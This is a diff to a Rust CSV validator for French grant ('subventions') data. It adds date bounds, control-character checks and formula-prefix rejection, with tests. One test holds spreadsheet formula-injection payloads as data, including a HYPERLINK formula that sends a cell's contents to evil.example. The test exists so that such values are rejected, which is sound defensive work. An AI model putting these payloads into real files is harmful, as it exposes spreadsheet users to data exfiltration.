@@ -11,14 +11,22 @@
 //! (`idBeneficiaire`: it identifies the beneficiary; a row with only `rnaBeneficiaire` cannot be
 //! imported), the territory's own SIRET as `idAttribuant`, a `dispositifAide` naming one of the
 //! territory's schemes (by code, or else by name), an amount above zero in whole cents, a
-//! `dateConvention` not in the future, a `referenceDecision` of at most 256 characters and a
-//! `nomBeneficiaire` of at most 200 (as any organisation's name).
+//! `dateConvention` from [`FIRST_YEAR`]-01-01 to today (as the API's decision dates), payment
+//! dates from [`FIRST_YEAR`]-01-01 to [`LAST_YEAR`]-12-31 (a period not ending before it
+//! starts), a `referenceDecision` of at most 256 characters and a `nomBeneficiaire` of at most
+//! 200 (as any organisation's name).
+//!
+//! Every field is held to the API's rule for one line of text: no control character (a NUL, an
+//! ESC…), that field's only error then. The texts the open-data export republishes
+//! (`referenceDecision`, `nomBeneficiaire`, `objet`, `conditionsVersement`, `idRAE`) may not
+//! start with a character a spreadsheet runs as a formula ([`check_cell_line`]), like the API's.
 
 use chrono::NaiveDate;
 
-use super::checks::{check_line, MAX_AMOUNT_CENTS};
+use super::checks::{check_cell_line, check_date, check_line, MAX_AMOUNT_CENTS};
 use super::identifiers::{validate_rna, validate_siret};
 use super::lang::{cents_text, date_in, Lang, Text};
+use super::money::{FIRST_YEAR, LAST_YEAR};
 use super::FieldError;
 
 /// The columns of an SCDL "subventions" 2.1.1 file, in their order.
@@ -352,6 +360,14 @@ pub fn parse_row(
         FIELDS.iter().position(|f| *f == name).and_then(|i| values.get(i).copied()).unwrap_or("")
     };
     let optional = |name: &str| Some(value(name)).filter(|v| !v.is_empty());
+    let first_day = NaiveDate::from_ymd_opt(FIRST_YEAR, 1, 1).expect("date");
+    let last_day = NaiveDate::from_ymd_opt(LAST_YEAR, 12, 31).expect("date");
+    // Every field, whatever it holds, under the API's rule for one line of text: a control
+    // character is that field's only error (not also its format's).
+    let mut controlled = Vec::new();
+    for (field, raw) in FIELDS.iter().zip(values) {
+        check_line(&mut controlled, field, raw, 0, usize::MAX);
+    }
     let mut errors: Vec<FieldError> = Vec::new();
     let mut error =
         |field: &str, code: &str, message: Text| errors.push(FieldError::new(field, code, message));
@@ -401,6 +417,10 @@ pub fn parse_row(
             );
             None
         }
+        Some(on) if on < first_day => {
+            check_date(&mut checked, "dateConvention", on, first_day, ctx.today);
+            None
+        }
         Some(on) if on > ctx.today => {
             error(
                 "dateConvention",
@@ -417,11 +437,11 @@ pub fn parse_row(
 
     let decision_reference = optional("referenceDecision");
     if let Some(reference) = decision_reference {
-        check_line(&mut checked, "referenceDecision", reference, 0, 256);
+        check_cell_line(&mut checked, "referenceDecision", reference, 0, 256);
     }
 
     // The beneficiary: by SIRET.
-    check_line(&mut checked, "nomBeneficiaire", value("nomBeneficiaire"), 1, 200);
+    check_cell_line(&mut checked, "nomBeneficiaire", value("nomBeneficiaire"), 1, 200);
     let beneficiary = value("idBeneficiaire");
     if beneficiary.is_empty() {
         error(
@@ -449,7 +469,7 @@ pub fn parse_row(
         );
     }
 
-    check_line(&mut checked, "objet", value("objet"), 1, 256);
+    check_cell_line(&mut checked, "objet", value("objet"), 1, 256);
     let amount_cents = match parse_cents(value("montant")) {
         Ok(cents) if cents <= 0 => {
             error(
@@ -498,21 +518,29 @@ pub fn parse_row(
             ),
         );
     }
-    check_line(&mut checked, "conditionsVersement", value("conditionsVersement"), 1, 256);
+    check_cell_line(&mut checked, "conditionsVersement", value("conditionsVersement"), 1, 256);
     let period = value("datesPeriodeVersement");
     let mut dates = period.split('/');
-    let well_formed = match (dates.next(), dates.next(), dates.next()) {
-        (Some(one), None, None) => parse_date(one).is_some(),
-        (Some(from), Some(to), None) => parse_date(from).is_some() && parse_date(to).is_some(),
-        _ => false,
+    let period_dates = match (dates.next(), dates.next(), dates.next()) {
+        (Some(one), None, None) => parse_date(one).map(|on| (on, on)),
+        (Some(from), Some(to), None) => parse_date(from).zip(parse_date(to)),
+        _ => None,
     };
+    if let Some((from, to)) = period_dates {
+        // Payments may be planned after today; within the years Essor handles, in order.
+        let before = checked.len();
+        check_date(&mut checked, "datesPeriodeVersement", from, first_day, last_day);
+        if checked.len() == before {
+            check_date(&mut checked, "datesPeriodeVersement", to, from, last_day);
+        }
+    }
     if period.is_empty() {
         error(
             "datesPeriodeVersement",
             "required",
             Text::new("Le champ datesPeriodeVersement est obligatoire.", "datesPeriodeVersement is required"),
         );
-    } else if !well_formed {
+    } else if period_dates.is_none() {
         error(
             "datesPeriodeVersement",
             "date_format",
@@ -523,16 +551,7 @@ pub fn parse_row(
             ),
         );
     }
-    if value("idRAE").chars().count() > 5 {
-        error(
-            "idRAE",
-            "too_long",
-            Text::new(
-                "Le champ idRAE comporte au plus 5 caractères.",
-                "idRAE must have at most 5 characters",
-            ),
-        );
-    }
+    check_cell_line(&mut checked, "idRAE", value("idRAE"), 0, 5);
     if !matches!(value("notificationUE"), "oui" | "non") {
         error(
             "notificationUE",
@@ -600,6 +619,8 @@ pub fn parse_row(
     };
 
     errors.extend(checked);
+    errors.retain(|e| !controlled.iter().any(|c| c.field == e.field));
+    errors.extend(controlled);
     if !errors.is_empty() {
         let order = |e: &FieldError| FIELDS.iter().position(|f| *f == e.field).unwrap_or(FIELDS.len());
         errors.sort_by_key(order);
@@ -949,5 +970,130 @@ mod tests {
         let rejection = parse_text(&text).unwrap_err();
         assert_eq!(rejection.errors.len(), MAX_ERRORS);
         assert!(rejection.truncated);
+    }
+
+    /// The row's value of `field`, as [`row`] writes it (before CSV quoting).
+    fn value_in_row(field: &str) -> String {
+        let text = row("10", "DI-ESS");
+        let record = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap();
+        record[FIELDS.iter().position(|f| *f == field).unwrap()].to_string()
+    }
+
+    /// [`row`] with `field` set to `value` (CSV-quoted).
+    fn row_with(field: &str, value: &str) -> String {
+        let text = row("10", "DI-ESS");
+        let mut record: Vec<String> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap()
+            .iter()
+            .map(str::to_string)
+            .collect();
+        record[FIELDS.iter().position(|f| *f == field).unwrap()] = value.to_string();
+        let mut writer = csv::WriterBuilder::new().from_writer(Vec::new());
+        writer.write_record(&record).unwrap();
+        String::from_utf8(writer.into_inner().unwrap()).unwrap().trim_end().to_string()
+    }
+
+    #[test]
+    fn a_control_character_in_any_field_is_that_fields_only_error() {
+        for control in ['\u{0}', '\u{1b}', '\u{7f}', '\u{9b}'] {
+            let rows: Vec<String> =
+                FIELDS.iter().map(|f| row_with(f, &format!("{}{control}", value_in_row(f)))).collect();
+            let errors = errors_of(&format!("{}\n{}\n", header(), rows.join("\n")));
+            let expected: Vec<(u64, String, String)> = FIELDS
+                .iter()
+                .enumerate()
+                .map(|(i, f)| (i as u64 + 2, f.to_string(), "control_character".to_string()))
+                .collect();
+            assert_eq!(errors, expected, "U+{:04X}", u32::from(control));
+        }
+        // Tabs and line breaks within a cell are white space, collapsed into one space.
+        let grants =
+            parse_text(&format!("{}\n{}\n", header(), row_with("objet", "Rénovation\tde\nl'atelier")))
+                .expect("valid");
+        assert_eq!(grants[0].object, "Rénovation de l'atelier");
+    }
+
+    #[test]
+    fn dates_are_bounded_like_the_apis() {
+        let date = |on: &str| row_with("dateConvention", on);
+        let period = |p: &str| row_with("datesPeriodeVersement", p);
+        let text = [
+            date("0001-01-01"),
+            date("1999-12-31"),
+            period("1999-12-31"),
+            period("2021-09-01/2101-01-01"),
+            period("2021-09-01/2021-08-31"),
+            period("0001-01-01/9999-12-31"),
+        ]
+        .join("\n");
+        let errors = errors_of(&format!("{}\n{text}\n", header()));
+        assert_eq!(
+            errors,
+            [
+                (2, "dateConvention"),
+                (3, "dateConvention"),
+                (4, "datesPeriodeVersement"),
+                (5, "datesPeriodeVersement"),
+                (6, "datesPeriodeVersement"),
+                // One error a field.
+                (7, "datesPeriodeVersement"),
+            ]
+            .map(|(line, field)| (line, field.to_string(), "out_of_range".to_string()))
+        );
+        let rejection = parse_text(&format!("{}\n{}\n", header(), date("0001-01-01"))).unwrap_err();
+        assert_eq!(
+            rejection.errors[0].message.in_(Lang::En),
+            "dateConvention must be between 2000-01-01 and 2026-11-22"
+        );
+        // The bounds themselves.
+        let edges =
+            [date("2000-01-01"), date("2026-11-22"), period("2000-01-01/2100-12-31"), period("2100-12-31")];
+        let grants = parse_text(&format!("{}\n{}\n", header(), edges.join("\n"))).expect("valid");
+        assert_eq!(grants[0].decided_on, NaiveDate::from_ymd_opt(2000, 1, 1).unwrap());
+        assert_eq!(grants[2].published.payment_period, "2000-01-01/2100-12-31");
+    }
+
+    #[test]
+    fn republished_texts_may_not_start_like_a_formula() {
+        let text = [
+            row_with("referenceDecision", "=1+2"),
+            row_with("nomBeneficiaire", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")"),
+            row_with("objet", "+SUM(A1)"),
+            row_with("conditionsVersement", "-1"),
+            row_with("idRAE", "@A1"),
+            row_with("objet", " \t =A1"),
+        ]
+        .join("\n");
+        let errors = errors_of(&format!("{}\n{text}\n", header()));
+        let formula = |line: u64, field: &str| (line, field.to_string(), "formula_prefix".to_string());
+        assert_eq!(
+            errors,
+            [
+                formula(2, "referenceDecision"),
+                formula(3, "nomBeneficiaire"),
+                formula(4, "objet"),
+                formula(5, "conditionsVersement"),
+                formula(6, "idRAE"),
+                formula(7, "objet"),
+            ]
+        );
+        // Further on, or in a field Essor does not republish, these characters are text.
+        let fine = [
+            row_with("objet", "2e tranche - travaux = 50 %"),
+            row_with("nomBeneficiaire", "3F @ Rouen"),
+            row_with("nomAttribuant", "-Rouen"),
+        ];
+        assert_eq!(parse_text(&format!("{}\n{}\n", header(), fine.join("\n"))).expect("valid").len(), 3);
     }
 }
